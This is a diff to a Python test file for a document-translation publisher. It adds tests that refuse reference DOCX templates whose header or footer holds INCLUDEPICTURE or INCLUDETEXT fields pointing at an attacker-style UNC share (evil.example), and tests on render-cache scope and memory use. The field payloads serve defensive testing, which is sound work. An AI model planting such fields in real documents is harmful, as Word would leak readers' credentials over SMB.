@@ -6,7 +6,10 @@ import hashlib
 import io
 import json
 import os
+import resource
 import shutil
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 
@@ -17,7 +20,8 @@ from click.testing import CliRunner
 from docx.oxml.ns import qn
 
 from conftest import requires_apertium
-from docx_helpers import attached_template, footer_link, header_link, save
+from docx_helpers import attached_template, complex_field, footer_link, header_link, save, simple_field
+from fs_helpers import ROOT
 from review_helpers import edited, make_store
 from translate.cli import cli
 from translate.config import Workspace
@@ -297,6 +301,75 @@ def test_reference_docx_pointing_outside_is_refused(workspace: Workspace, build,
     folder = publish(workspace, name="r").folder
     with zipfile.ZipFile(folder / "es" / "csto.docx") as archive:
         assert b"https://example.org/newsroom" in archive.read("word/_rels/header1.xml.rels")
+
+
+UNC_PICTURE = r'\\\\evil.example\\share\\a.png'
+"""``\\\\evil.example\\share\\a.png`` as a field code writes it (backslashes doubled inside quotes)."""
+
+
+@pytest.mark.parametrize(("build", "part", "field"), [
+    pytest.param(lambda: simple_field(f' INCLUDEPICTURE "{UNC_PICTURE}" \\d ', part="header"), "word/header1.xml",
+                 r"an INCLUDEPICTURE field to '\\\\evil.example\\share\\a.png'", id="header-includepicture"),
+    pytest.param(lambda: complex_field(" INCLUDETEXT ", '"\\\\\\\\evil.example\\\\share\\\\b.docx"', part="footer"),
+                 "word/footer1.xml", r"an INCLUDETEXT field to '\\\\evil.example\\share\\b.docx'",
+                 id="footer-includetext-in-instrtext-runs"),
+])
+def test_reference_docx_with_a_fetching_field_is_refused(workspace: Workspace, build, part: str, field: str) -> None:
+    """The field went into the header or footer of every released DOCX: Word on Windows fetches the picture over
+    SMB, sending the reader's credentials."""
+    approve_all(workspace)
+    reference = save(build(), workspace.templates_dir / "reference.docx")
+    with pytest.raises(ExportError) as raised:
+        publish(workspace, name="r")
+    assert raised.value.path == reference
+    assert str(raised.value).startswith(f"{reference}: the reference document's part {part} has {field}: Word fetches")
+    assert not (workspace.outputs_dir / "releases").exists()
+    save(complex_field(" PAGE ", part="footer"), reference)  # a page number stays
+    folder = publish(workspace, name="r").folder
+    with zipfile.ZipFile(folder / "es" / "csto.docx") as archive:
+        assert b"> PAGE </w:instrText>" in archive.read("word/footer1.xml")
+
+
+def render_keys(workspace: Workspace, name: str = "r") -> dict[str, str]:
+    """What each file of the release was last rendered from (the render cache)."""
+    cache = json.loads((workspace.state_dir / "releases" / f"{name}.json").read_text())
+    return {path: entry[0] for path, entry in cache.items()}
+
+
+BUILTIN_BASE = Path(__file__).parents[1] / "translate" / "templates" / "base.html"
+
+
+def test_the_render_cache_follows_the_templates_used_and_nothing_else(workspace: Workspace) -> None:
+    """Every regular file in templates/ was read into the digest (a 3 GB notes.bin: 40 s and 6.3 GB per publish),
+    and any file added there re-rendered every page."""
+    approve_all(workspace)
+    publish(workspace, name="r")
+    keys = render_keys(workspace)
+    workspace.templates_dir.mkdir()
+    (workspace.templates_dir / "notes.txt").write_text("for the desk")
+    (workspace.templates_dir / "unused.html").write_text("{{ nothing }}")
+    assert not publish(workspace, name="r").changed and render_keys(workspace) == keys
+    (workspace.templates_dir / "base.html").write_text(BUILTIN_BASE.read_text("utf-8") + "<!-- ours -->\n")
+    changed = publish(workspace, name="r")
+    assert {"en/csto.html", "es/csto.html", "index.html"} <= set(changed.written)
+    assert all(render_keys(workspace)[path] != key for path, key in keys.items())
+    assert b"<!-- ours -->" in (changed.folder / "es" / "csto.html").read_bytes()
+
+
+def test_publish_reads_no_file_of_templates_it_does_not_render(workspace: Workspace) -> None:
+    """A 3 GB file in templates/ (sparse: no disk) under a 400 MB memory limit: it was read whole."""
+    approve_all(workspace)
+    workspace.templates_dir.mkdir()
+    with (workspace.templates_dir / "notes.bin").open("wb") as handle:
+        handle.truncate(3 * 1024**3)
+    limit = 400 * 1024**2
+    done = subprocess.run(
+        [sys.executable, "-m", "translate", "--workspace", str(workspace.root), "publish", "--release", "r"],
+        capture_output=True, text=True, cwd=workspace.root, timeout=120, check=False,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (limit, limit)))
+    assert done.returncode == 0, done.stderr
+    assert (workspace.outputs_dir / "releases" / "r" / "es" / "csto.html").is_file()
 
 
 @requires_apertium
